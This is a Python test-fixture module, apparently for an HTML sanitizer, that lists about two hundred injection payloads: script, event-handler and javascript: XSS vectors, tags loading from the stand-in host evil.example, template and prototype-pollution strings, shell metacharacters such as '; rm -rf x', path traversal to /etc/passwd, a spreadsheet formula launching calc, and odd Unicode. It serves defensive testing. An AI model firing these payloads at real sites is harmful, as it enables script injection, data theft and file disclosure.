"""Two hundred texts that try to become more than text, each of a kind that has broken some page before.

Whatever runs would set ``window.pwned`` or open a dialog, and whatever loads would ask for ``evil.example``; the tests
look for both.
"""

from __future__ import annotations

# ruff: noqa: E501 - a payload a line would be longer, not clearer

_DO = "window.pwned=1;alert(1)"

_TAGS = [
    f"<script>{_DO}</script>", f"<ScRiPt>{_DO}</sCrIpT>", f"<script >{_DO}</script >", f"<script/x>{_DO}</script>",
    "<script src=//evil.example/a.js></script>", f"<script type=module>{_DO}</script>", f"<scr<script>ipt>{_DO}</script>",
    f"<script\n>{_DO}</script\n>", f"<<script>{_DO}//<</script>", f"<script>{_DO}", f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
    f"<img src=x onerror={_DO}>", f"<img src=x onerror='{_DO}'>", f'<img src="x" onerror="{_DO}">', f"<img/src=x/onerror={_DO}>",
    "<img src=//evil.example/x.png>", "<img srcset='//evil.example/x 2x'>", f"<image href=x onerror={_DO}>",
    f"<video src=x onerror={_DO}>", f"<video><source onerror={_DO}></video>", f"<audio src=x onerror={_DO}>",
    f"<svg onload={_DO}>", f"<svg/onload={_DO}>", f"<svg><script>{_DO}</script></svg>", f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><set onbegin={_DO}>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={_DO}/>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_DO}</script>'></foreignObject></svg>", f"<svg><style><img src=x onerror={_DO}></style></svg>",
    f"<svg><a xlink:href='javascript:{_DO}'><text>x</text></a></svg>", f"<math><mtext><mglyph><style><img src=x onerror={_DO}>",
    f"<math href='javascript:{_DO}'>x</math>", f"<iframe src='javascript:{_DO}'>", f"<iframe srcdoc='<script>parent.{_DO}</script>'>",
    "<iframe src=//evil.example></iframe>", f"<object data='javascript:{_DO}'>", "<object data=//evil.example></object>",
    f"<embed src='javascript:{_DO}'>", "<embed src=//evil.example>", f"<body onload={_DO}>", f"<body onpageshow={_DO}>",
    f"<input autofocus onfocus={_DO}>", f"<select autofocus onfocus={_DO}>", f"<textarea autofocus onfocus={_DO}>",
    f"<details open ontoggle={_DO}>", f"<marquee onstart={_DO}>", f"<div onpointerover={_DO}>x</div>", f"<x onclick={_DO}>x</x>",
    f"<form action='javascript:{_DO}'><button>x</button></form>", "<form action=//evil.example><input name=q></form>",
    f"<isindex action='javascript:{_DO}'>", f"<button formaction='javascript:{_DO}'>x</button>", f"<a href='javascript:{_DO}'>x</a>",
    f"<a href=' java\tscript:{_DO}'>x</a>", f"<a href='&#106;avascript:{_DO}'>x</a>", "<a ping=//evil.example href=#>x</a>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/>",
    "<link rel=dns-prefetch href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta http-equiv=set-cookie content=a=b>",
    f"<template><script>{_DO}</script></template>", f"<template shadowrootmode=open><script>{_DO}</script></template>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example)}</style>", "<style>body{display:none}</style>",
    f"<style onload={_DO}></style>", "<table background=//evil.example>", f"<td background='javascript:{_DO}'>",
    f"<frameset onload={_DO}>", "<portal src=//evil.example>", f"<dialog open onclose={_DO}>", f"<xss style='animation-name:x' onanimationstart={_DO}>",
    "<p id=index>[]</p>", "<div id=filters></div>", "<div id=replay></div>", "<form name=filters><input name=elements>", "<img name=body>",
]  # fmt: skip

_ENDINGS = [
    f"</script><script>{_DO}</script>", f"</SCRIPT><script>{_DO}</script>", f"</script\t><img src=x onerror={_DO}>", f"</style><script>{_DO}</script>",
    f"</title><script>{_DO}</script>", f"</textarea><script>{_DO}</script>", f"</noscript><script>{_DO}</script>", f"</template><script>{_DO}</script>",
    f"</iframe><script>{_DO}</script>", f"</xmp><script>{_DO}</script>", f"</select><img src=x onerror={_DO}>", f"</table><img src=x onerror={_DO}>",
    f"</td></tr></table><script>{_DO}</script>", f"</pre><script>{_DO}</script>", f"</svg><script>{_DO}</script>", f"</body></html><script>{_DO}</script>",
    "<!--", "-->", "--!>", "<!--><script>", f"<!--<script>{_DO}</script>-->", f"--><script>{_DO}</script>", f"<!-- --!><img src=x onerror={_DO}>",
    f"<![CDATA[<script>{_DO}</script>]]>", "]]>", f"]]><script>{_DO}</script>", "<?xml version='1.0'?>", f"<?php {_DO} ?>", f"<% {_DO} %>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;", "<!ENTITY % x SYSTEM '//evil.example'>", "<plaintext>", f"<xmp><script>{_DO}</script>", "<listing>",
    f'"><script>{_DO}</script>', f"'><script>{_DO}</script>", f"><script>{_DO}</script>", f'" onmouseover="{_DO}', f"' onmouseover='{_DO}",
    f'" autofocus onfocus="{_DO}', f"` onmouseover=`{_DO}", f'"/><img src=x onerror={_DO}>', "\" style=\"background:url(//evil.example)", "<<>>\"'`=",
]  # fmt: skip

_CODE = [
    f"javascript:{_DO}", f"JaVaScRiPt:{_DO}", f"\x01javascript:{_DO}", f"java\nscript:{_DO}", f"data:text/html,<script>{_DO}</script>",
    f"data:image/svg+xml,<svg onload={_DO}>", "vbscript:msgbox(1)", f"';{_DO};'", f'";{_DO};"', f"`;{_DO};`", f"${{{_DO}}}", f"`${{{_DO}}}`",
    f"\\';{_DO}//", f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e", f"\\x3cscript\\x3e{_DO}\\x3c/script\\x3e", f"*/{_DO}/*", f"//\n{_DO}",
    '{"__proto__":{"pwned":1}}', "__proto__", "constructor", "hasOwnProperty", "toString", '"}]}<!--', "[object Object]", "undefined", "NaN", "null",
    "{{ 7 * 7 }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% include '/etc/passwd' %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)",
    f"{{{{constructor.constructor('{_DO}')()}}}}", "%s%n%x", "{0}", "$(touch x)", "`touch x`", "; rm -rf x", "| cat", "../../etc/passwd",
    "expression(alert(1))", "color:red;background:url(//evil.example)", "}*{display:none}", "@import '//evil.example';", "/*", "url(//evil.example)",
    "[x](javascript:alert(1))", "![x](//evil.example/x.png)", "<https://evil.example>", "#episode=1&step=2", "=cmd|' /C calc'!A0", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&amp;lt;", "&", "&;", "&#0;", "&#x1F600;", "&nbsp;", "%00",
]  # fmt: skip

_UNICODE = [
    "half \ud800 of it", "\udfff", "\ud83d", "\u202egnp.exe\u202c", "\u2067\u2066right\u2069 to left", "\u200b\u200c\u200d\ufeffhidden", "\x00", "a\x00b",
    "\u2028\u2029", "\x1b[31mred\x1b[0m\x07", "\x7f\x80\x9f", "\ufffe\uffff", "\U0010ffff", "Z" + "\u0300\u0488\u20dd" * 200, "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f", "日本語 العربية עברית ไทย", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02bascript\u02ba", "ﷺ" * 50, "a" * 5000, "\t\n\r\n ", " ",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00a0\u2003\u3000", "\r", "ı̇İSS\u00df",
]  # fmt: skip

PAYLOADS = tuple(dict.fromkeys((*_TAGS, *_ENDINGS, *_CODE, *_UNICODE)))
